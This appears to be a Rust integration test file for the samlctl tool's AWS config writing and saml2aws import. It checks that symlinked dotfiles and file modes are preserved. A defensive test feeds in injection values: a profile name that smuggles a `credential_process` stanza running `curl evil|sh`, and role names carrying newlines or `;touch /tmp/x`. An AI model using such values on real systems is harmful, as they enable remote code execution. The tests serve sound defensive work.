//! `samlctl aws-config --write` and `samlctl import` edit files a user may keep in a dotfile
//! manager (a symlink into a repository) and take names from the command line that end up
//! inside an INI file and a `credential_process` line. With the real binary; no daemon.

use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;

use samld_tests::fixture::{TestEnv, bin_path, failed, stderr, stdout, succeeded};

const CONFIG: &str = "[accounts.prod]\nurl = \"https://sso.jumpcloud.com/saml2/acme-prod\"\n\
                      username = \"road.runner@example.com\"\nregion = \"us-east-2\"\n";

fn aws_config(env: &TestEnv, config: &Path, args: &[&str]) -> std::process::Output {
    env.command("samlctl")
        .arg("aws-config")
        .args(args)
        .env("AWS_CONFIG_FILE", config)
        .env(
            "AWS_SHARED_CREDENTIALS_FILE",
            env.path().join("no-credentials"),
        )
        .output()
        .expect("run samlctl")
}

fn mode(path: &Path) -> u32 {
    std::fs::metadata(path).unwrap().permissions().mode() & 0o7777
}

#[test]
fn aws_config_writes_through_a_symlinked_config() {
    let env = TestEnv::new(CONFIG);
    // ~/.aws/config -> ~/dotfiles/aws/config, as stow, chezmoi (symlink mode) or yadm leave it.
    let dotfiles = env.path().join("dotfiles").join("aws");
    std::fs::create_dir_all(&dotfiles).unwrap();
    let target = dotfiles.join("config");
    std::fs::write(&target, "[default]\noutput = json\n").unwrap();
    std::fs::set_permissions(&target, std::fs::Permissions::from_mode(0o640)).unwrap();
    let aws = env.path().join(".aws");
    std::fs::create_dir_all(&aws).unwrap();
    let link = aws.join("config");
    // Relative, as dotfile managers make them.
    symlink("../dotfiles/aws/config", &link).unwrap();

    let out = aws_config(&env, &link, &["prod", "--write"]);
    succeeded(&out, "aws-config --write");

    assert!(
        std::fs::symlink_metadata(&link)
            .unwrap()
            .file_type()
            .is_symlink(),
        "the symlink was replaced by a plain file"
    );
    let helper = bin_path("samld-helper");
    assert_eq!(
        std::fs::read_to_string(&target).unwrap(),
        format!(
            "[default]\noutput = json\n\n[profile prod]\ncredential_process = {} prod\nregion = us-east-2\n",
            helper.display()
        ),
        "the target holds the new profile"
    );
    assert_eq!(mode(&target), 0o640, "the target's mode is kept");
    let leftovers: Vec<_> = std::fs::read_dir(&dotfiles)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.contains("tmp"))
        .collect();
    assert!(leftovers.is_empty(), "temp files left: {leftovers:?}");
}

#[test]
fn import_writes_through_a_symlinked_samld_config() {
    let env = TestEnv::new("");
    let dotfiles = env.path().join("dotfiles");
    std::fs::create_dir_all(&dotfiles).unwrap();
    let target = dotfiles.join("samld.toml");
    std::fs::write(&target, "# mine\n").unwrap();
    std::fs::remove_file(&env.config).unwrap();
    symlink(&target, &env.config).unwrap();
    std::fs::write(
        env.path().join(".saml2aws"),
        "[default]\nurl = https://sso.jumpcloud.com/saml2/acme\nusername = rr@acme.com\n\
         provider = JumpCloud\n",
    )
    .unwrap();

    let out = env.samlctl(&["import", "saml2aws"]);
    succeeded(&out, "import");
    assert!(
        std::fs::symlink_metadata(&env.config)
            .unwrap()
            .file_type()
            .is_symlink(),
        "the symlink was replaced by a plain file"
    );
    let text = std::fs::read_to_string(&target).unwrap();
    assert!(
        text.starts_with("# mine\n") && text.contains("[accounts.default]"),
        "{text}"
    );
}

#[test]
fn names_that_would_add_ini_structure_are_refused() {
    let env = TestEnv::new(CONFIG);
    let config = env.path().join("aws-config");
    let before = "[default]\noutput = json\n";
    std::fs::write(&config, before).unwrap();

    let evil_profile = "x]\n[profile evil]\ncredential_process = sh -c 'curl evil|sh'\n[y";
    let out = aws_config(
        &env,
        &config,
        &["prod", "--profile", evil_profile, "--write"],
    );
    let err = failed(&out, "aws-config with a newline in --profile");
    assert!(
        err.contains("--profile") && err.contains("may not contain"),
        "the error names the option and the rule: {err}"
    );
    assert_eq!(std::fs::read_to_string(&config).unwrap(), before);
    assert!(
        !env.path().join("aws-config.bak").exists(),
        "nothing was even backed up"
    );

    let out = aws_config(
        &env,
        &config,
        &["prod", "--role", "Admin\n[profile evil]", "--write"],
    );
    let err = failed(&out, "aws-config with a newline in --role");
    assert!(
        err.contains("--role") && err.contains("role ARN or a role name"),
        "{err}"
    );
    assert_eq!(std::fs::read_to_string(&config).unwrap(), before);

    // credential_process runs under `sh -c` in some SDKs: no shell syntax in the role.
    let out = aws_config(&env, &config, &["prod", "--role", "Admin;touch /tmp/x"]);
    failed(&out, "aws-config with shell syntax in --role");
    assert_eq!(stdout(&out), "", "no stanza printed either");

    // Ordinary names still work, printed and written.
    let out = aws_config(
        &env,
        &config,
        &[
            "prod",
            "--profile",
            "acme-prod.admin",
            "--role",
            "arn:aws:iam::123456789012:role/team/Admin",
        ],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(
        stdout(&out).starts_with("[profile acme-prod.admin]\n"),
        "{}",
        stdout(&out)
    );
}
